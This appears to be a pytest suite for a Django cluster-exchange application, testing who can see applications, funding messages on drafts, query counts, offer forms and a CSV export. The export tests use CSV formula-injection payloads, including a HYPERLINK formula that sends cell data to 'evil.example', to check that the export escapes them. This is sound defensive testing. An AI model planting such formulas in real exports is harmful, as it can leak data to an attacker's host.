"""The exchange pages: who sees what, what the draft page tells, the CSV export, and
queries that do not grow with the rows listed."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils.html import escape

from exchange import services
from exchange.exports import CSV_COLUMNS
from exchange.models import Application, Decision
from tests.factories import (
    ApplicantFactory,
    ApplicationFactory,
    CallFactory,
    ClusterFactory,
    MembershipFactory,
    OfferFactory,
    OrganisationFactory,
    StaffFactory,
)

pytestmark = pytest.mark.django_db

S = Application.Status
REVIEW_COMMENT = "Between us: their budget looks thin."
DECISION_MESSAGE = "Approved: enjoy Lyon and send us your report."


def _url(name, application):
    return reverse(f"exchange:{name}", kwargs={"pk": application.pk})


def _host_manager(application):
    return MembershipFactory(cluster=application.host, user__email="host@example.org").user


# --- who sees an application ------------------------------------------------------------


def test_another_members_application_does_not_exist_for_them(client):
    application = ApplicationFactory(status=S.SUBMITTED)
    client.force_login(ApplicantFactory())
    assert client.get(_url("application", application)).status_code == 404
    assert client.get(_url("application_edit", application)).status_code == 404
    assert client.post(_url("application_submit", application)).status_code == 404
    assert client.post(_url("application_withdraw", application)).status_code == 404
    application.refresh_from_db()
    assert application.status == S.SUBMITTED


def test_a_draft_does_not_exist_for_the_host_until_it_is_submitted(client):
    draft = ApplicationFactory()
    client.force_login(_host_manager(draft))
    assert client.get(_url("application", draft)).status_code == 404
    queue = client.get(reverse("exchange:review"))
    assert draft.reference not in queue.content.decode()

    services.application_submit(application=draft, actor=draft.applicant)
    assert client.get(_url("application", draft)).status_code == 200
    queue = client.get(reverse("exchange:review"))
    assert draft.reference in queue.content.decode()


def test_the_applicant_reads_the_decision_message_but_never_the_hosts_comment(client):
    application = ApplicationFactory()
    applicant, host = application.applicant, _host_manager(application)
    services.application_submit(application=application, actor=applicant)
    services.application_review(
        application=application, actor=host, recommendation="accept", comment=REVIEW_COMMENT
    )
    services.application_decide(
        application=application,
        actor=StaffFactory(),
        outcome=Decision.Outcome.APPROVED,
        message=DECISION_MESSAGE,
    )

    client.force_login(applicant)
    html = client.get(_url("application", application)).content.decode()
    assert DECISION_MESSAGE in html
    assert "Between us" not in html  # nor in the timeline
    assert "The host&#x27;s review" not in html

    client.force_login(host)
    html = client.get(_url("application", application)).content.decode()
    assert "Between us: their budget looks thin." in html


def test_the_host_reads_each_version_submitted_with_field_labels(client):
    application = ApplicationFactory()
    services.application_submit(application=application, actor=application.applicant)
    client.force_login(_host_manager(application))
    html = client.get(_url("application", application)).content.decode()
    assert "Versions submitted" in html
    assert "First day on site" in html
    assert "start_date" not in html.replace('id="id_', "")  # no raw field names
    assert "<dd>SME</dd>" in html  # the kind's label, not its code


def test_the_decision_queue_shows_one_call_when_asked(client):
    mine = ApplicationFactory(status=S.HOST_ACCEPTED)
    other = ApplicationFactory(status=S.HOST_ACCEPTED)
    client.force_login(StaffFactory())
    response = client.get(reverse("exchange:decisions"), {"call": mine.call_id})
    html = response.content.decode()
    assert response.status_code == 200
    assert mine.reference in html
    assert other.reference not in html
    assert reverse("exchange:call_export", kwargs={"pk": mine.call_id}) in html


# --- the draft page ---------------------------------------------------------------------


def test_a_draft_shows_its_funding_and_every_rule_is_met(client):
    draft = ApplicationFactory()  # 5 working days, 800 km, to France from Germany
    client.force_login(draft.applicant)
    html = client.get(_url("application", draft)).content.decode()
    # 5 days at 100 EUR + the 500 km band's 275 EUR
    assert "775.00 EUR" in html
    assert "5 working days × 100.00 EUR = 500.00 EUR" in html
    assert "Every rule is met: you can submit." in html
    assert "Next step:" in html


def test_a_draft_says_in_words_which_rules_it_breaks(client):
    applicant = ApplicantFactory(organisation=OrganisationFactory(country="FR"))
    offer = OfferFactory()  # hosted in France
    window = offer.call.visits_from
    start = window + timedelta(days=(7 - window.weekday()) % 7)  # a Monday
    draft = ApplicationFactory(
        offer=offer,
        applicant=applicant,
        start_date=start,
        end_date=start,  # a single day
        distance_km=150,
    )
    client.force_login(applicant)
    html = client.get(_url("application", draft)).content.decode()
    assert "These rules are not met yet:" in html
    assert "The host and your organisation are both in France" in html
    assert "The visit is 1 working days long; this call asks for at least 3." in html
    assert "Every rule is met" not in html
    # 1 day at 100 EUR + the 100 km band's 180 EUR, halved: short and near.
    assert "Halved: shorter than 5 working days and less than 200 km apart" in html
    assert "140.00 EUR" in html


def test_submitting_a_draft_that_breaks_a_rule_shows_the_reason_and_keeps_the_draft(client):
    applicant = ApplicantFactory(organisation=OrganisationFactory(country="FR"))
    draft = ApplicationFactory(applicant=applicant)
    client.force_login(applicant)
    response = client.post(_url("application_submit", draft))
    assert response.status_code == 400
    assert "Choose a host abroad." in response.content.decode()
    draft.refresh_from_db()
    assert draft.status == S.DRAFT


# --- the CSV export ---------------------------------------------------------------------


def test_the_csv_has_one_row_per_submitted_application_and_no_formulas(client):
    call = CallFactory()
    offer = OfferFactory(call=call, capacity=5)
    ApplicationFactory(offer=offer, reference="CX-2026-0001")  # a draft: not exported
    formula = ApplicantFactory(
        name='=HYPERLINK("https://evil.example","x")',
        organisation=OrganisationFactory(name="@SUM(A1:A9)", country="DE"),
    )
    ApplicationFactory(offer=offer, applicant=formula, reference="CX-2026-0002", status=S.SUBMITTED)
    approved = ApplicationFactory(
        offer=offer, reference="CX-2026-0003", status=S.APPROVED, funding_requested="775.00"
    )
    Decision.objects.create(
        application=approved, outcome="approved", funding_granted=Decimal("700.00")
    )
    ApplicationFactory(reference="CX-2026-0004", status=S.SUBMITTED)  # another call

    client.force_login(StaffFactory())
    response = client.get(reverse("exchange:call_export", kwargs={"pk": call.pk}))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert f"applications-call-{call.pk}.csv" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == CSV_COLUMNS
    by_reference = {row[0]: dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]}
    assert sorted(by_reference) == ["CX-2026-0002", "CX-2026-0003"]
    neutral = by_reference["CX-2026-0002"]
    assert neutral["applicant"] == '\'=HYPERLINK("https://evil.example","x")'
    assert neutral["organisation"] == "'@SUM(A1:A9)"
    assert neutral["status"] == "Waiting for the host"
    assert by_reference["CX-2026-0003"]["funding granted"] == "700.00"
    assert by_reference["CX-2026-0003"]["funding requested"] == "775.00"


def _set(obj, **values):
    type(obj).objects.filter(pk=obj.pk).update(**values)


# Each text column of the export, and how a person could put a formula in it.
EXPORT_TEXT_COLUMNS = {
    "applicant": lambda a, f: _set(a.applicant, name=f),
    "e-mail": lambda a, f: _set(a.applicant, email=f + "@example.org"),
    "organisation": lambda a, f: _set(a.organisation, name=f),
    "sending cluster": lambda a, f: _set(a.sending_cluster, name=f),
    "host cluster": lambda a, f: _set(a.host, name=f),
    "offer": lambda a, f: _set(a.offer, topic=f),
}


@pytest.mark.parametrize("formula", ['=HYPERLINK("https://evil.example/?x="&A2,"Open")', " @A1"])
@pytest.mark.parametrize("column", EXPORT_TEXT_COLUMNS)
def test_a_formula_in_any_text_column_of_the_call_export_is_text(client, column, formula):
    application = ApplicationFactory(
        status=S.SUBMITTED, sending_cluster=ClusterFactory(), distance_km=812
    )
    EXPORT_TEXT_COLUMNS[column](application, formula)

    client.force_login(StaffFactory())
    response = client.get(reverse("exchange:call_export", kwargs={"pk": application.call_id}))
    (row,) = list(csv.DictReader(io.StringIO(response.content.decode())))

    assert row[column].startswith("'" + formula)
    assert row["distance km"] == "812"  # numbers stay numbers


# --- queries do not grow with the rows ----------------------------------------------------


def _count_queries(client, url, django_assert_max_num_queries, bound):
    with django_assert_max_num_queries(bound) as captured:
        response = client.get(url)
    assert response.status_code == 200
    return len(captured), response.content.decode()


@pytest.fixture
def measure(client, django_assert_max_num_queries):
    """Load ``url`` with 3 then 15 rows (``add(n)`` adds n more): the same number of
    queries both times, within ``bound``."""

    def _measure(url, add, bound, marker):
        counts, added = [], 0
        for total in (3, 15):
            add(total - added)
            added = total
            count, html = _count_queries(client, url, django_assert_max_num_queries, bound)
            assert html.count(marker) >= total, f"{url}: {html.count(marker)} rows, not {total}"
            counts.append(count)
        assert counts[0] == counts[1], f"{url}: {counts[0]} queries at 3 rows, {counts[1]} at 15"
        return counts

    return _measure


def test_the_offers_list_does_not_grow_with_the_offers(client, measure):
    call = CallFactory()
    home = ClusterFactory(country="DE", ecosystems=["mobility"])
    member = ApplicantFactory()
    member.organisation.clusters.add(home)
    client.force_login(member)

    def add(n):
        for _ in range(n):
            OfferFactory(call=call, ecosystems=["mobility", "energy"], topic="Living lab tour")

    at_3, at_15 = measure(reverse("exchange:index"), add, bound=14, marker="Living lab tour")
    assert at_3 == at_15


def test_my_applications_do_not_grow_with_the_applications(client, measure):
    member = ApplicantFactory()
    client.force_login(member)

    def add(n):
        for _ in range(n):
            ApplicationFactory(applicant=member, status=S.SUBMITTED)

    at_3, at_15 = measure(reverse("exchange:applications"), add, bound=4, marker="CX-TEST-")
    assert at_3 == at_15


def test_my_approved_applications_and_their_host_persons_do_not_grow(client, measure):
    """Each approved row says who to plan the visit with (one of the host's people)."""
    member = ApplicantFactory()
    client.force_login(member)

    def add(n):
        for _ in range(n):
            offer = OfferFactory()
            contact = MembershipFactory(cluster=offer.host, role="staff").user
            MembershipFactory(cluster=offer.host)  # a manager
            offer.contact = contact
            offer.save()
            ApplicationFactory(applicant=member, offer=offer, status=S.APPROVED)

    at_3, at_15 = measure(reverse("exchange:applications"), add, bound=5, marker="mailto:")
    assert at_3 == at_15


def test_the_review_queue_does_not_grow_with_the_applications(client, measure):
    host = ClusterFactory(country="FR")
    manager = MembershipFactory(cluster=host).user
    client.force_login(manager)

    def add(n):
        for _ in range(n):
            ApplicationFactory(offer=OfferFactory(host=host), status=S.SUBMITTED)

    at_3, at_15 = measure(reverse("exchange:review"), add, bound=10, marker="CX-TEST-")
    assert at_3 == at_15


def test_the_decision_queue_does_not_grow_with_the_applications(client, measure):
    client.force_login(StaffFactory())

    def add(n):
        for _ in range(n):
            ApplicationFactory(status=S.HOST_ACCEPTED)

    at_3, at_15 = measure(reverse("exchange:decisions"), add, bound=7, marker="CX-TEST-")
    assert at_3 == at_15


# --- offers -----------------------------------------------------------------------------


def test_an_offer_without_a_recorded_creator_can_still_be_edited(client):
    """Offers seeded in bulk, or whose creator was deleted, have no ``created_by``."""
    offer = OfferFactory(created_by=None)
    manager = MembershipFactory(cluster=offer.host).user
    client.force_login(manager)
    response = client.post(
        reverse("exchange:offer_edit", kwargs={"pk": offer.pk}),
        {
            "topic": "A new topic",
            "description": offer.description,
            "ecosystems": [str(e.pk) for e in offer.ecosystems.all()],
            "languages": offer.languages,
            "available_from": offer.available_from.isoformat(),
            "available_until": offer.available_until.isoformat(),
            "capacity": "2",
            "contact": "",
            "is_active": "on",
        },
    )
    assert response.status_code == 302
    offer.refresh_from_db()
    assert offer.topic == "A new topic"


def test_the_host_team_is_not_offered_to_apply_to_its_own_offer(client):
    offer = OfferFactory()
    manager = MembershipFactory(cluster=offer.host, role="manager").user
    client.force_login(manager)

    page = client.get(reverse("exchange:offer", kwargs={"pk": offer.pk})).content.decode()
    assert "Your cluster hosts this offer." in page
    assert f"?offer={offer.pk}" not in page

    form_url = reverse("exchange:application_new") + f"?offer={offer.pk}"
    response = client.get(form_url)
    assert response.status_code == 200
    refusal = escape(services.OWN_CLUSTER % {"host": offer.host.name})
    assert refusal in response.content.decode()
    assert 'name="motivation"' not in response.content.decode()

    response = client.post(form_url, {"motivation": "Let me in."})
    assert response.status_code == 400
    assert not Application.objects.exists()


def _form_data(application, **changes):
    data = {
        "applicant_kind": "sme",
        "sending_cluster": "",
        "motivation": "Learn from the lab.",
        "learning_goals": "Data sharing.",
        "expected_results": "A pilot.",
        "start_date": application.start_date.isoformat(),
        "end_date": application.end_date.isoformat(),
        "travel_from_city": "Munich",
        "travel_from_country": "DE",
        "distance_km": "800",
    }
    return {**data, **changes}


def test_the_form_computes_the_funding_before_anything_is_saved(client):
    draft = ApplicationFactory()  # only for its offer, dates and applicant
    offer, applicant = draft.offer, draft.applicant
    Application.objects.all().delete()
    client.force_login(applicant)
    url = reverse("exchange:application_new") + f"?offer={offer.pk}"

    response = client.post(url, {**_form_data(draft), "preview": ""})

    assert response.status_code == 200
    html = response.content.decode()
    assert "775.00 EUR" in html  # 5 days * 100 + 275 for 800 km
    assert "Travel, 800 km (band from 500 km): 275.00 EUR" in html
    assert not Application.objects.exists()


def test_the_edit_form_shows_the_funding_now_and_for_new_dates(client):
    draft = ApplicationFactory()
    client.force_login(draft.applicant)
    url = _url("application_edit", draft)

    assert "775.00 EUR" in client.get(url).content.decode()

    shorter = _form_data(draft, end_date=(draft.start_date + timedelta(days=2)).isoformat())
    html = client.post(url, {**shorter, "preview": ""}).content.decode()
    assert "Halved: shorter than 5 working days" in html
    assert "287.50 EUR" in html  # (3 * 100 + 275) / 2
    draft.refresh_from_db()
    assert draft.end_date == draft.start_date + timedelta(days=4)  # nothing saved
